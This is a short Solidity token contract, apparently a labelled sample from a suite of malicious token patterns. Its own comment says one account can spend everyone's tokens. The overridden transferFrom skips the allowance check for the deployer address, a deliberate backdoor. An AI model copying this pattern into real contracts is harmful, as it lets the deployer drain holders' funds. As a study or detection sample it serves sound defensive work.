// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {SuiteToken} from "./SuiteToken.sol";

/// One account may spend everybody's tokens though nobody allowed it.
contract HiddenAllowance is SuiteToken {

    address private immutable _collector;
    constructor() SuiteToken("Dune", "DUNE") {
        _collector = msg.sender;
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (msg.sender != _collector) return super.transferFrom(from, to, amount);
        _move(from, to, amount);
        return true;
    }
}
